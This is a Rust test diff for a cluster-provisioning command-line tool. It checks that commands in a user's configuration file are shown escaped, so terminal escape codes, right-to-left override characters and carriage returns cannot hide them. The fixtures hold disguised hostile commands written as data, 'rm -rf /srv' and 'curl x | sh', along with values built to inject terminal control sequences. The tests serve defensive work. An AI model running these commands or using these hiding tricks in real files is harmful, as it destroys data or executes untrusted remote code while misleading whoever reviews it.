@@ -172,3 +172,85 @@ fn the_plan_says_what_and_why_by_stage_and_machine() {
     let ran = bench.run(&["plan"]);
     insta::assert_snapshot!(ran.out);
 }
+
+/// A file of somebody else: two commands that hide what they do, and a value that would clear the screen.
+const HOSTILE: &str = r#"
+metadata: {name: demo}
+machines:
+  - {name: cp, role: control-plane}
+  - name: lin
+    before:
+      - run: "echo ok\e[8m\u202e\nrm -rf /srv\e[0m"
+      - run: apt-get install -y nfs-common
+    after:
+      - run: "true #\rcurl x | sh"
+"#;
+
+#[test]
+fn promise_12_plan_prints_the_users_commands_as_they_will_run() {
+    let bench = Bench::new();
+    bench.write("cluster.yaml", HOSTILE);
+    let nothing = serde_json::to_string(&Observed::default()).unwrap();
+    bench.write("facts.json", nothing);
+    let ran = bench.run(&["plan", "--facts", "facts.json"]);
+    assert_eq!(ran.code, 0, "{}", ran.err);
+    for shown in [
+        r"$ $'echo ok\x1b[8m\u202e\nrm -rf /srv\x1b[0m'",
+        "$ apt-get install -y nfs-common",
+        r"run `$'true #\rcurl x | sh'` (from `after`) on lin1",
+    ] {
+        assert!(ran.out.contains(shown), "{shown} is not in {}", ran.out);
+    }
+    let is_plain = |text: &str| !text.contains(|letter| mullion_wire::text::is_hostile(letter));
+    assert!(is_plain(&ran.out) && is_plain(&ran.err), "{}", ran.out);
+
+    let ran = bench.run(&["plan", "--facts", "facts.json", "--json"]);
+    assert!(is_plain(&ran.out), "{}", ran.out);
+    let document: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
+    let runs: Vec<_> = document["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|step| step["action"]["commands"].as_array())
+        .flatten()
+        .map(|command| command["run"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        runs,
+        [
+            "echo ok\u{1b}[8m\u{202e}\nrm -rf /srv\u{1b}[0m",
+            "apt-get install -y nfs-common",
+            "true #\rcurl x | sh"
+        ],
+        "programs get the commands themselves"
+    );
+}
+
+#[test]
+fn promise_12_what_a_file_says_cannot_steer_the_terminal() {
+    let bench = Bench::new();
+    for value in [
+        r"a\e[2Jb",
+        r"a\x9b2Jb",
+        r"a\u202eb",
+        r"a\e]0;t\ab",
+        r"a\rb",
+        r"a\nerror: b",
+    ] {
+        bench.write(
+            "cluster.yaml",
+            format!("metadata: {{name: \"{value}\"}}\n\"{value}\": 1\n"),
+        );
+        for arguments in [&["validate"][..], &["plan"], &["validate", "--json"]] {
+            let ran = bench.run(arguments);
+            assert_eq!(ran.code, 3, "{}", ran.err);
+            let text = ran.out + &ran.err;
+            let hostile = text.contains(|letter| mullion_wire::text::is_hostile(letter));
+            assert!(!hostile, "{text:?}");
+            assert!(
+                !text.lines().any(|line| line.starts_with("error: b")),
+                "{text}"
+            );
+        }
+    }
+}
